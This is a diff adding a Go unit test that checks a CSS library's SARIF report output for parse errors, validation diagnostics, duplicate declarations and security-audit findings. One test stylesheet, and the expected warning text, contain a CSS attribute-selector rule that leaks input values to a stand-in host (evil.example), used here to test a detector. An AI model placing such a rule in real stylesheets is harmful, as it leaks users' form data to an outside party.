@@ -0,0 +1,122 @@
+// Copyright 2026 The Gorilla Authors. All rights reserved.
+// Use of this source code is governed by a BSD-style
+// license that can be found in the LICENSE file.
+
+package sarif
+
+import (
+	"encoding/json"
+	"errors"
+	"reflect"
+	"testing"
+
+	"github.com/gorilla/css"
+	"github.com/gorilla/css/sanitize"
+	"github.com/gorilla/css/validate"
+)
+
+func TestLog(t *testing.T) {
+	l := &Log{ToolName: "csslint", ToolVersion: "1.0.0"}
+	_, err := css.ParseStylesheet("a { content: 'unclosed }")
+	l.AddError("a.css", err)
+	_, err = (&css.Parser{Limits: css.Limits{MaxDepth: 1}}).ParseStylesheet("a { b { c {} } }")
+	l.AddError("a.css", err)
+	l.AddError("", errors.New("read failed"))
+	s, err := css.ParseStylesheet("a {\n  display: blok;\n}\ninput[value^=a] { background: url(https://evil.example/a) }")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range validate.Validate(s.Rules[0].Declarations[0]) {
+		l.AddDiagnostic("b.css", d)
+	}
+	for _, f := range sanitize.Audit(s) {
+		l.AddFinding("b.css", f)
+	}
+	s, err = css.ParseStylesheet("a { color: red; margin: 0; color: blue }")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range validate.Duplicates(s) {
+		l.AddDiagnostic("c.css", d)
+	}
+	if l.Len() != 6 {
+		t.Fatalf("got %d results, want 6", l.Len())
+	}
+
+	b, err := json.Marshal(l)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got map[string]interface{}
+	if err := json.Unmarshal(b, &got); err != nil {
+		t.Fatal(err)
+	}
+	tcs := []struct {
+		path     []interface{}
+		expected interface{}
+	}{
+		{[]interface{}{"version"}, "2.1.0"},
+		{[]interface{}{"runs", 0, "columnKind"}, "unicodeCodePoints"},
+		{[]interface{}{"runs", 0, "tool", "driver", "name"}, "csslint"},
+		{[]interface{}{"runs", 0, "tool", "driver", "version"}, "1.0.0"},
+		{[]interface{}{"runs", 0, "tool", "driver", "rules"}, []interface{}{
+			map[string]interface{}{"id": "parse-error"},
+			map[string]interface{}{"id": "limit-exceeded"},
+			map[string]interface{}{"id": "unknown-keyword"},
+			map[string]interface{}{"id": "attribute-leak"},
+			map[string]interface{}{"id": "duplicate-declaration"},
+		}},
+		{[]interface{}{"runs", 0, "results", 0, "ruleId"}, "parse-error"},
+		{[]interface{}{"runs", 0, "results", 0, "level"}, "error"},
+		{[]interface{}{"runs", 0, "results", 0, "locations", 0, "physicalLocation"}, map[string]interface{}{
+			"artifactLocation": map[string]interface{}{"uri": "a.css"},
+			"region":           map[string]interface{}{"startLine": 1.0, "startColumn": 14.0},
+		}},
+		{[]interface{}{"runs", 0, "results", 1, "ruleIndex"}, 1.0},
+		{[]interface{}{"runs", 0, "results", 1, "message", "text"}, "MaxDepth of 1 exceeded"},
+		{[]interface{}{"runs", 0, "results", 2, "ruleIndex"}, 0.0},
+		{[]interface{}{"runs", 0, "results", 2, "message", "text"}, "read failed"},
+		{[]interface{}{"runs", 0, "results", 2, "locations"}, nil},
+		{[]interface{}{"runs", 0, "results", 3, "ruleId"}, "unknown-keyword"},
+		{[]interface{}{"runs", 0, "results", 3, "locations", 0, "physicalLocation", "region"}, map[string]interface{}{
+			"startLine": 2.0, "startColumn": 12.0, "endLine": 2.0, "endColumn": 16.0,
+		}},
+		{[]interface{}{"runs", 0, "results", 3, "fixes", 0, "artifactChanges", 0, "replacements", 0, "insertedContent", "text"}, "block"},
+		{[]interface{}{"runs", 0, "results", 4, "ruleId"}, "attribute-leak"},
+		{[]interface{}{"runs", 0, "results", 4, "level"}, "warning"},
+		{[]interface{}{"runs", 0, "results", 4, "message", "text"}, `attribute leak: input[value^=a] fetches https://evil.example/a`},
+		{[]interface{}{"runs", 0, "results", 5, "relatedLocations"}, []interface{}{
+			map[string]interface{}{
+				"physicalLocation": map[string]interface{}{
+					"artifactLocation": map[string]interface{}{"uri": "c.css"},
+					"region":           map[string]interface{}{"startLine": 1.0, "startColumn": 5.0, "endLine": 1.0, "endColumn": 15.0},
+				},
+				"message": map[string]interface{}{"text": "first declaration"},
+			},
+		}},
+	}
+	for _, tc := range tcs {
+		var v interface{} = got
+		for _, p := range tc.path {
+			switch p := p.(type) {
+			case int:
+				v = v.([]interface{})[p]
+			case string:
+				v = v.(map[string]interface{})[p]
+			}
+		}
+		if !reflect.DeepEqual(v, tc.expected) {
+			t.Errorf("%v: got %#v, want %#v", tc.path, v, tc.expected)
+		}
+	}
+
+	// An empty log has a run without results.
+	b, err = json.Marshal(&Log{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	expected := `{"$schema":"https://json.schemastore.org/sarif-2.1.0.json","version":"2.1.0","runs":[{"tool":{"driver":{"name":"gorilla/css","rules":[]}},"columnKind":"unicodeCodePoints","results":[]}]}`
+	if string(b) != expected {
+		t.Errorf("got %s, want %s", b, expected)
+	}
+}